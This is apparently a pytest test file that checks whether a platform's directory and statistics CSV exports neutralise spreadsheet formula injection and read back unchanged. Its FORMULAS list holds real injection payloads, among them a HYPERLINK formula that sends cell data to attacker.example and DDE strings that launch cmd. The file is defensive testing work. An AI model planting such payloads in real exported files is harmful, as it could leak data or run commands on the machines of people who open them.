"""CSV injection: the CSV files the platform writes (the directory's tabular and 1.1 packages, the
statistics download) hold no cell a spreadsheet runs as a formula, and a directory exported then
imported again is the same data."""

from __future__ import annotations

import csv
import re
from datetime import date
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from app.statistics import period as periods
from app.statistics import report, service
from app.statistics.queries import FirstAnswer, RawCounts
from directory import legacy_export, tabular
from directory.readers import read_path
from directory.spreadsheet_cells import neutralise, restore

pytestmark = pytest.mark.pure

FORMULAS = [
    '=HYPERLINK("https://attacker.example/?x="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
KEPT = ["+1 514 555-0100", "-73.57", "Abri d'urgence", "'s-Hertogenbosch", "", "a=b", "'"]


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _runs_as_formula(cell: str) -> bool:
    """A cell a spreadsheet reads as a formula with more in it than a number's or a phone's signs."""
    return cell.startswith(("=", "@", "\t", "\r")) or bool(re.match(r"[+-].*[^\d\s().,/+-]", cell))


class TestCells:
    @pytest.mark.parametrize("value", FORMULAS)
    def test_a_formula_is_quoted_and_read_back(self, value: str) -> None:
        assert neutralise(value) == "'" + value
        assert restore(neutralise(value)) == value

    @pytest.mark.parametrize("value", KEPT)
    def test_numbers_phones_and_text_are_left_as_they_are(self, value: str) -> None:
        assert neutralise(value) == value and restore(value) == value

    @pytest.mark.parametrize("value", ["'=1+1", "''@x", "'+1 514 555-0100"])
    def test_a_value_that_starts_with_quotes_comes_back_exactly(self, value: str) -> None:
        assert restore(neutralise(value)) == value

    def test_a_cell_a_spreadsheet_saved_again_is_read_as_it_is(self) -> None:
        assert restore("=HYPERLINK(1)") == "=HYPERLINK(1)"  # the sheet dropped the quote


def _rows(name: str) -> dict[str, list[dict[str, object]]]:
    return {
        "organization": [{"id": "o1", "name": name, "description": "-"}],
        "phone": [{"id": "p1", "organization_id": "o1", "number": "+1 514 555-0100"}],
        "location": [
            {"id": "l1", "organization_id": "o1", "name": name, "latitude": 45.5, "longitude": -73.57}
        ],
    }


class TestDirectoryExports:
    @pytest.mark.parametrize("name", FORMULAS)
    def test_the_tabular_package_runs_no_formula_and_reads_back_the_same(
        self, tmp_path: Path, name: str
    ) -> None:
        tabular.write(tmp_path, _rows(name))
        cells = [cell for file in tmp_path.glob("*.csv") for cell in _cells(file)]
        assert not [cell for cell in cells if _runs_as_formula(cell)]
        assert "+1 514 555-0100" in cells and "-73.57" in cells  # phones and coordinates exact
        dataset = read_path(tmp_path)
        assert dataset.rows["organization"]["o1"].data["name"] == name
        assert dataset.rows["location"]["l1"].data["name"] == name
        assert dataset.rows["phone"]["p1"].data["number"] == "+1 514 555-0100"

    def test_the_1_1_layout_runs_no_formula_and_reads_back_the_same(self, tmp_path: Path) -> None:
        name = FORMULAS[0]
        legacy_export.write(tmp_path, _rows(name))
        cells = [cell for file in tmp_path.glob("*.csv") for cell in _cells(file)]
        assert not [cell for cell in cells if _runs_as_formula(cell)]
        dataset = read_path(tmp_path)
        assert dataset.rows["organization"]["o1"].data["name"] == name


def test_the_statistics_csv_runs_no_formula() -> None:
    raw = RawCounts(
        per_day={(date(2026, 12, 1), "sms"): 12},
        urgency={"high": 12},
        languages={FORMULAS[0]: 12},
        needs={},
        first_answer=FirstAnswer(answered=0, median_seconds=None, p90_seconds=None),
        abandoned=0,
    )
    period = periods.Period(date(2026, 12, 1), date(2026, 12, 1), ZoneInfo("America/Toronto"))
    text = service.to_csv(report.build(raw, period=period, referrals=None, languages=()))
    cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
    assert "'" + FORMULAS[0] in cells and not [cell for cell in cells if _runs_as_formula(cell)]
